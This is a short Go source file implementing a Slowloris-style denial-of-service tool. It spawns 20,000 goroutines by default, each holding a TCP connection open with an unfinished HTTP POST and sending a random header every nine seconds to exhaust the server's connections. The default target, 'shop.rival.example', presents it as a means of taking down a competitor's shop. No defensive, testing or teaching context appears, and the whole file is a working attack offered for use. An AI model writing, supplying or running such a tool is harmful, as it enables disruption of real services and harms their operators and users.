package main

import (
	"flag"
	"fmt"
	"math/rand"
	"net"
	"time"
)

func hold(addr string) {
	for {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			time.Sleep(50 * time.Millisecond)
			continue
		}
		fmt.Fprintf(c, "POST /%d HTTP/1.1\r\nHost: %s\r\nContent-Length: 1000000\r\n", rand.Int(), addr)
		for {
			if _, err := fmt.Fprintf(c, "X-%d: %d\r\n", rand.Int(), rand.Int()); err != nil {
				break
			}
			time.Sleep(9 * time.Second)
		}
		c.Close()
	}
}

func main() {
	target := flag.String("t", "shop.rival.example:80", "address")
	n := flag.Int("n", 20000, "connections")
	flag.Parse()
	for i := 0; i < *n; i++ {
		go hold(*target)
	}
	select {}
}
